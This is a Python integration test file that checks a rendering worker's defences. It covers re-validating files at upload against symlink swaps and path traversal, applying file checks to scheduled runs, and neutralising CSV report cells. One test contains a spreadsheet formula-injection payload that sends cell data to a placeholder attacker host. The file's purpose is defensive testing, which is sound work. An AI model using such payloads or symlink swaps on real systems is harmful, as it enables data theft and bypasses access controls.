"""Hostile input past the producer: the worker checks files again on the handle it uploads,
scheduled runs check files as the command line does, and report cells never run as formulas.
"""

from __future__ import annotations

import csv
import io
import logging
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from config.settings import load_settings
from simulator import PNG_BYTES
from tests.integration.security.hostile import (
    MP3_FRAME,
    SECRET,
    UTF16_SECRET,
    World,
    _request,
    assert_nothing_spent,
    everything_stored,
    jsonl,
)
from tests.pipeline_helpers import make_engine
from worker.batch import parse_records
from worker.cli.main import main
from worker.job.engine import get_engine
from worker.job.pipeline import prepare
from worker.job.record import JobState
from worker.render.validation import validate_request


def _recorded(world: World, fields: dict[str, Any], *, producer_dirs: list[Path]) -> str:
    """A job recorded by a producer whose allow-list was ``producer_dirs``."""
    request = validate_request(_request(**fields), media_dirs=producer_dirs)
    engine = get_engine()
    return engine.store.create_render(request, alias="default")


def _swap_for_symlink(w: World) -> tuple[str, str]:
    photo = w.file("allowed", "photo.png", PNG_BYTES)
    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.allowed])
    photo.unlink()
    photo.symlink_to(w.file("outside", "secret.png", PNG_BYTES))
    return job_id, "outside the directories"


def _swap_for_utf16(w: World) -> tuple[str, str]:
    voice = w.file("allowed", "voice.mp3", MP3_FRAME * 2)
    job_id = _recorded(w, {"audio": [str(voice)]}, producer_dirs=[w.allowed])
    voice.write_bytes(UTF16_SECRET)
    return job_id, "not a recognised media file"


def _wider_producer(w: World) -> tuple[str, str]:
    photo = w.file("outside", "photo.png", PNG_BYTES)
    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.root])
    return job_id, "outside the directories"


def _dir_swapped_for_symlink(w: World) -> tuple[str, str]:
    (w.allowed / "sub").mkdir()
    photo = w.file("allowed", "sub/photo.png", PNG_BYTES)
    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.allowed])
    os.rename(w.allowed / "sub", w.root / "old-sub")
    w.file("outside", "photo.png", PNG_BYTES)
    (w.allowed / "sub").symlink_to(w.outside, target_is_directory=True)
    return job_id, "outside the directories"


def _record_not_canonical(w: World) -> tuple[str, str]:
    # A record the producer did not resolve (written by other code, or by hand).
    w.file("allowed", "photo.png", PNG_BYTES)
    (w.allowed / "sub").mkdir()
    request = validate_request(
        _request(images=[f"{w.allowed}/sub/../photo.png"]), check_files=False
    )
    return get_engine().store.create_render(request, alias="default"), "now resolves elsewhere"


UPLOAD_ROWS = {
    "file-swapped-for-a-symlink-out-after-validation": _swap_for_symlink,
    "directory-swapped-for-a-symlink-out-after-validation": _dir_swapped_for_symlink,
    "file-overwritten-with-utf16-text-after-validation": _swap_for_utf16,
    "producer-allow-list-wider-than-the-workers": _wider_producer,
    "record-with-a-dotdot-path": _record_not_canonical,
}


@pytest.mark.parametrize("attack", list(UPLOAD_ROWS.values()), ids=list(UPLOAD_ROWS))
def test_the_upload_step_checks_again_and_uploads_nothing(
    world: World, attack: Callable[[World], tuple[str, str]]
) -> None:
    job_id, says = attack(world)
    engine = make_engine(load_settings())
    try:
        job = engine.store.get(job_id)
        assert job is not None
        outcome = prepare(engine, job_id, seq=job.seq)
        assert outcome.action == "stop"
        job = engine.store.get(job_id)
        assert job is not None
        assert job.state is JobState.FAILED and job.error_code == "file_refused"
        assert says in (job.error_message or ""), job.error_message
        assert SECRET not in (job.error_message or "")
        assert job.uploaded == [] and engine.store.uploads(job) == {}
        assert_nothing_spent(world.sim)
    finally:
        engine.close()


def test_a_file_inside_the_allowed_dirs_is_still_uploaded(world: World) -> None:
    # The control row: the harness refuses hostile input, not everything.
    photo = world.file("allowed", "photo.png", PNG_BYTES)
    job_id = _recorded(world, {"images": [str(photo)]}, producer_dirs=[world.allowed])
    engine = make_engine(load_settings())
    try:
        job = engine.store.get(job_id)
        assert job is not None
        assert prepare(engine, job_id, seq=job.seq).action == "next"
        assert world.sim.stats()["uploads"] == 1
    finally:
        engine.close()


def test_a_scheduled_run_checks_files_like_the_command_line(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    from worker.batch.schedules import Schedules
    from worker.infra.celery_app import app

    photo = world.file("outside", "photo.png", PNG_BYTES)
    # Added where the file was allowed; the worker that runs it does not allow it.
    parsed = parse_records([_request(images=[str(photo)])], media_dirs=[world.root])
    schedules = Schedules(get_engine(), app)
    schedules.add("nightly", cron="0 2 * * *", parsed=parsed)
    caplog.set_level(logging.WARNING)
    assert schedules.run("nightly") is None
    assert "line 1: images: local file" in caplog.text
    assert "outside the directories" in caplog.text
    assert ":job:" not in everything_stored(world.redis)
    assert_nothing_spent(world.sim)


def test_report_cells_never_run_as_formulas(world: World) -> None:
    from tasks.batches import enqueue_batch_file

    formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    path = jsonl(world, {**_request(), formula: 1}, _request())
    # A zero budget: the valid line is skipped, so the batch spends nothing.
    submission = enqueue_batch_file(path, skip_invalid=True, budget=0.0)
    result = CliRunner().invoke(main, ["batch", "report", submission.batch_id])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    invalid = next(row for row in rows if row["state"] == "invalid")
    assert invalid["error"].startswith("'=HYPERLINK("), invalid["error"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert ":job:" not in everything_stored(world.redis)
    assert_nothing_spent(world.sim)
